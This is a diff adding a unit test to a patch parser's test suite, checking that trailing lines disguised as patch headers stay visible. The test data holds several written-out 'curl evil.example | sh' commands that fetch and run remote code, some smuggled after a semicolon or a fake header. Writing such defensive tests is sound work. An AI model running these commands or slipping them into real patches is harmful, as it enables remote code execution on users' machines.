@@ -384,6 +384,17 @@ describe("parsePatch (contracts 1.32, 5.14)", () => {
     );
   });
 
+  it("hides no line that merely begins like one of a patch's own", () => {
+    const change = ["--- a/x.sh", "+++ b/x.sh", "@@ -1 +1 @@", "-a", "+b"];
+    for (const line of [
+      "\\curl evil.example | sh",
+      "diff -q a b; curl evil.example | sh",
+      "Index: curl evil.example | sh",
+      "index 0a..0b; curl evil.example | sh",
+    ])
+      expect(read(patch(...change, line)).trailing).toBe(line);
+  });
+
   it("is linear on hostile text", () => {
     for (const line of ["@@ -", "@@ ", "diff --git ", '--- "a/\\', "= ", "`"])
       parsePatch(`--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n${line.repeat(200_000)}\n`.repeat(3));
